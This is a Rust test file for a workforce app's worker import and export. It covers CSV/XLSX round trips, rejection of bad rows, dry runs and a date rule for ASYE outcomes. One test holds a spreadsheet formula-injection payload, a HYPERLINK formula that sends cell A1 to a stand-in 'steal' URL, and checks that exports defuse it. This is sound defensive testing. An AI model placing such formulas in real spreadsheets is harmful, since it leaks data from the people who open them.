//! Importing and exporting workers on both databases: round trips, all-or-nothing, dry runs
//! and formula injection.

use std::io::Cursor;
use std::path::Path;

use crate::harness::TestDb;
use chrono::NaiveDate;
use pathway_app::AppError;
use pathway_app::demo::{DemoAuthority, Scale, generate};
use pathway_app::export::{SheetFormat, export_rows, to_bytes};
use pathway_app::import::{ImportOptions, ImportReport, Sheet, import_sheet};
use pathway_core::bundled;
use pathway_core::framework::Framework;
use pathway_core::workforce::{AuthorityId, Name, NewAuthority, NewOrgUnit, NewWorker, NewWorkerRecord, WorkerDetails};
use pathway_store::{AuthorityScope, FrameworkFile, FrameworkVersions, Organisation, Store, Tenancy, Workforce};

crate::stories!(
    an_export_imports_into_a_fresh_authority_as_the_same_workers,
    a_file_with_bad_rows_imports_nothing_unless_told_to_skip_them,
    a_dry_run_writes_nothing_and_a_second_import_finds_everyone_already_there,
    formulas_in_names_are_defused_in_both_formats_and_survive_the_round_trip,
    a_pre_2013_nqsw_portfolio_dated_2016_is_refused_at_its_row,
);

fn today() -> NaiveDate {
    chrono::Local::now().date_naive()
}

fn framework(id: &str) -> Framework {
    pathway_app::catalog::resolve(id).expect("bundled framework")
}

/// A new authority using a bundled framework.
async fn authority(store: &Store, id: &str, framework: &str) -> AuthorityScope {
    let id = AuthorityId::parse(id).expect("id");
    store
        .create_authority(&NewAuthority { id: id.clone(), name: Name::parse("Test Council").expect("name") })
        .await
        .expect("create");
    let scope = store.scope(&id).await.expect("scope");
    let file = bundled::file(framework).expect("bundled");
    store.sync_frameworks(&scope, &[FrameworkFile::parse(file.file, file.text).expect("loads")]).await.expect("sync");
    scope
}

/// A demo authority's units and workers, stored as `pathway demo` stores them.
async fn load(store: &Store, a: &DemoAuthority) -> AuthorityScope {
    let scope = authority(store, a.authority.id.as_str(), a.framework.as_str()).await;
    let mut units = Vec::new();
    for u in &a.units {
        let parent = u.parent.map(|p| units[p]);
        units.push(
            store
                .create_unit(&scope, &NewOrgUnit { kind: u.kind, name: u.name.clone(), parent })
                .await
                .expect("unit")
                .id,
        );
    }
    let records: Vec<NewWorkerRecord> = a
        .workers
        .iter()
        .map(|w| {
            let mut details = WorkerDetails::new(w.employee_number.clone(), w.name.clone(), w.employment, w.started_on);
            details.unit = Some(units[w.unit]);
            details.qualification = Some(w.qualification.clone());
            details.registration = Some(w.registration.clone());
            details.asye = w.asye.clone();
            NewWorkerRecord {
                worker: NewWorker { details, timeline: w.timeline.clone() },
                awards: w.awards.clone(),
                appraisals: w.appraisals.clone(),
                goals: w.goals.clone(),
            }
        })
        .collect();
    store.create_worker_records(&scope, &records).await.expect("workers");
    scope
}

async fn import_bytes(
    store: &Store,
    scope: &AuthorityScope,
    f: &Framework,
    csv: &[u8],
    options: ImportOptions,
) -> Result<ImportReport, AppError> {
    let sheet = Sheet::from_csv("workers.csv".into(), Cursor::new(csv.to_vec()))?;
    import_sheet(store, scope, f, sheet, options, &|_, _| {}).await
}

const CREATE_TEAMS: ImportOptions = ImportOptions { dry_run: false, skip_invalid: false, create_teams: true };

async fn an_export_imports_into_a_fresh_authority_as_the_same_workers(db: &TestDb) {
    let store = db.store.clone();
    let dir: &Path = db.dir();
    let today = today();
    for demo in generate(Scale::Seeds, today, 11).expect("demo data") {
        let f = framework(demo.framework.as_str());
        let source = load(&store, &demo).await;
        let rows = export_rows(&store, &source, Some(&f), today).await.expect("export");
        assert_eq!(rows.len(), demo.workers.len());

        // Through CSV.
        let csv = to_bytes(&rows, SheetFormat::Csv, None).expect("csv");
        let copy = authority(&store, &format!("{}-csv", demo.authority.id), demo.framework.as_str()).await;
        let report = import_bytes(&store, &copy, &f, &csv, CREATE_TEAMS).await.expect("import");
        assert!(report.is_clean(), "{}: {:#?}", demo.authority.id, report.problems);
        assert_eq!(report.imported, rows.len());
        let again = export_rows(&store, &copy, Some(&f), today).await.expect("export the copy");
        assert_eq!(again, rows, "{}: CSV round trip", demo.authority.id);

        // Through XLSX, read from a real file.
        let path = dir.join(format!("{}.xlsx", demo.authority.id));
        std::fs::write(&path, to_bytes(&rows, SheetFormat::Xlsx, None).expect("xlsx")).expect("write");
        let copy = authority(&store, &format!("{}-xlsx", demo.authority.id), demo.framework.as_str()).await;
        let sheet = Sheet::open(&path).expect("open xlsx");
        let report = import_sheet(&store, &copy, &f, sheet, CREATE_TEAMS, &|_, _| {}).await.expect("import");
        assert!(report.is_clean(), "{}: {:#?}", demo.authority.id, report.problems);
        let again = export_rows(&store, &copy, Some(&f), today).await.expect("export the copy");
        assert_eq!(again, rows, "{}: XLSX round trip", demo.authority.id);

        // The same people with the same details, apart from the ids of their new teams.
        let mut before = store.workers(&source).await.expect("workers");
        let mut after = store.workers(&copy).await.expect("workers");
        for w in before.iter_mut().chain(after.iter_mut()) {
            w.details.unit = None;
        }
        let details = |ws: &[pathway_core::workforce::Worker]| ws.iter().map(|w| w.details.clone()).collect::<Vec<_>>();
        assert_eq!(details(&after), details(&before));
    }
}

const HEADER: &str = "employee_number,name,employment_type,start_date,team,level,level_since,grade,pay_point\n";

async fn a_file_with_bad_rows_imports_nothing_unless_told_to_skip_them(db: &TestDb) {
    let store = db.store.clone();
    let f = framework("rotherham");
    let scope = authority(&store, "rotherham", "rotherham").await;
    let file = format!(
        "{HEADER}R1,Aisha Khan,permanent,2019-09-02,Duty,Level 3,2022-04-01,Band I,36\n\
         R2,Ben Carter,permanent,31/02/2024,Duty,Level 2,,H,33\n\
         R3,Chloe Davies,agency,2023-03-06,Duty,Level 1,,G,29\n\
         R4,Dan Evans,permanent,2015-09-01,Duty,Level 4,,K,41\n"
    );
    let report = import_bytes(&store, &scope, &f, file.as_bytes(), CREATE_TEAMS).await.expect("checked");
    assert_eq!((report.rows, report.valid_rows, report.invalid_rows, report.imported), (4, 2, 2, 0));
    assert_eq!(
        report.problems.iter().map(|p| (p.row, p.column)).collect::<Vec<_>>(),
        [(3, "start_date"), (5, "grade")]
    );
    assert!(store.workers(&scope).await.expect("workers").is_empty(), "nothing imported");
    assert!(store.units(&scope).await.expect("units").is_empty(), "not even the new team");

    let skip = ImportOptions { skip_invalid: true, ..CREATE_TEAMS };
    let report = import_bytes(&store, &scope, &f, file.as_bytes(), skip).await.expect("imported");
    assert_eq!(report.imported, 2);
    assert_eq!(report.new_teams, ["Duty"]);
    assert_eq!(report.problems.len(), 2, "the bad rows are still reported");
    let numbers: Vec<String> =
        store.workers(&scope).await.expect("workers").iter().map(|w| w.details.employee_number.to_string()).collect();
    assert_eq!(numbers, ["R1", "R3"]);
    let units = store.units(&scope).await.expect("units");
    assert_eq!(units.len(), 1);
    let r1 = store.worker_records(&scope).await.expect("records").into_iter().next().expect("R1");
    assert_eq!(r1.worker.details.unit, Some(units[0].id));
    assert_eq!(r1.timeline.current().map(|e| e.entry.level.as_str()), Some("level-3"));
}

async fn a_dry_run_writes_nothing_and_a_second_import_finds_everyone_already_there(db: &TestDb) {
    let store = db.store.clone();
    let f = framework("rotherham");
    let scope = authority(&store, "rotherham", "rotherham").await;
    let file = format!(
        "{HEADER}R1,Aisha Khan,permanent,2019-09-02,Duty,Level 3,,Band I,36\n\
         R2,Ben Carter,permanent,2020-01-14,Duty,Level 2,,H,33\n"
    );
    let dry = ImportOptions { dry_run: true, ..CREATE_TEAMS };
    let report = import_bytes(&store, &scope, &f, file.as_bytes(), dry).await.expect("checked");
    assert!(report.is_clean() && report.dry_run);
    assert_eq!((report.valid_rows, report.imported), (2, 0));
    assert_eq!(report.new_teams, ["Duty"], "the dry run says which teams it would create");
    assert!(store.workers(&scope).await.expect("workers").is_empty());
    assert!(store.units(&scope).await.expect("units").is_empty());

    let report = import_bytes(&store, &scope, &f, file.as_bytes(), CREATE_TEAMS).await.expect("imported");
    assert_eq!(report.imported, 2);
    let report = import_bytes(&store, &scope, &f, file.as_bytes(), CREATE_TEAMS).await.expect("checked");
    assert_eq!(report.imported, 0);
    let reasons: Vec<String> =
        report.problems.iter().map(|p| format!("row {} {}: {}", p.row, p.column, p.reason)).collect();
    assert_eq!(
        reasons,
        [
            "row 2 employee_number: a worker with this employee number is already in rotherham",
            "row 3 employee_number: a worker with this employee number is already in rotherham"
        ]
    );
    assert_eq!(store.workers(&scope).await.expect("workers").len(), 2);
}

async fn formulas_in_names_are_defused_in_both_formats_and_survive_the_round_trip(db: &TestDb) {
    let store = db.store.clone();
    let dir: &Path = db.dir();
    let f = framework("rotherham");
    let scope = authority(&store, "rotherham", "rotherham").await;
    let evil = r#"=HYPERLINK("http://example.invalid/steal?d="&A1,"Click me")"#;
    let file = format!("{HEADER}R1,\"{}\",permanent,2019-09-02,+Team,Level 3,,Band I,36\n", evil.replace('"', "\"\""));
    let report = import_bytes(&store, &scope, &f, file.as_bytes(), CREATE_TEAMS).await.expect("imported");
    assert_eq!(report.imported, 1, "{:?}", report.problems);
    let rows = export_rows(&store, &scope, Some(&f), today()).await.expect("export");
    assert_eq!(rows[0][1], evil, "the export rows hold the value itself");

    let csv = String::from_utf8(to_bytes(&rows, SheetFormat::Csv, None).expect("csv")).expect("utf-8");
    let line = csv.lines().nth(1).expect("a data row");
    assert!(line.starts_with(r#"R1,"'=HYPERLINK(""http://"#), "{line}");
    assert!(line.contains(",'+Team,"), "{line}");
    assert!(!line.contains(",=") && !line.contains(",\"="), "no cell starts with =: {line}");

    let path = dir.join("evil.xlsx");
    std::fs::write(&path, to_bytes(&rows, SheetFormat::Xlsx, None).expect("xlsx")).expect("write");
    {
        use calamine::{Data, Reader, Xlsx};
        let mut book: Xlsx<_> = calamine::open_workbook(&path).expect("open");
        let range = book.worksheet_range("Workers").expect("sheet");
        assert_eq!(range.get_value((1, 1)), Some(&Data::String(format!("'{evil}"))), "a text cell, guarded");
        let formulas = book.worksheet_formula("Workers").expect("formulas");
        assert!(formulas.used_cells().all(|(_, _, f)| f.is_empty()), "the workbook has no formulas");
    }

    for (name, bytes) in [("csv", csv.into_bytes()), ("xlsx", std::fs::read(&path).expect("read"))] {
        let copy = authority(&store, &format!("copy-{name}"), "rotherham").await;
        let report = if name == "csv" {
            import_bytes(&store, &copy, &f, &bytes, CREATE_TEAMS).await
        } else {
            import_sheet(&store, &copy, &f, Sheet::open(&path).expect("open"), CREATE_TEAMS, &|_, _| {}).await
        }
        .expect("imported");
        assert_eq!(report.imported, 1);
        let w = store.workers(&copy).await.expect("workers").remove(0);
        assert_eq!(w.details.name.as_str(), evil, "{name}: the guard's quote is removed on import");
        assert_eq!(store.units(&copy).await.expect("units")[0].name.as_str(), "+Team");
    }
}

async fn a_pre_2013_nqsw_portfolio_dated_2016_is_refused_at_its_row(db: &TestDb) {
    let store = db.store.clone();
    let f = framework("rotherham");
    let scope = authority(&store, "rotherham", "rotherham").await;
    let file = "employee_number,name,employment_type,start_date,team,level,grade,pay_point,asye_outcome,asye_outcome_date\n\
         R7,Pat Longserving,permanent,2010-09-01,Duty,Level 3,Band I,36,nqsw-portfolio-pre-2013,2011-07-01\n\
         R8,Sam Later,permanent,2015-09-01,Duty,Level 3,Band I,36,nqsw-portfolio-pre-2013,2016-03-01\n";
    let report = import_bytes(&store, &scope, &f, file.as_bytes(), CREATE_TEAMS).await.expect("checked");
    assert_eq!((report.rows, report.valid_rows, report.invalid_rows, report.imported), (2, 1, 1, 0));
    let problem = &report.problems[0];
    assert_eq!((problem.row, problem.column, problem.value.as_str()), (3, "asye_outcome_date", "2016-03-01"));
    assert!(problem.reason.contains("must be dated before 2013"), "{}", problem.reason);
    assert!(store.workers(&scope).await.expect("workers").is_empty(), "nothing imported");
}
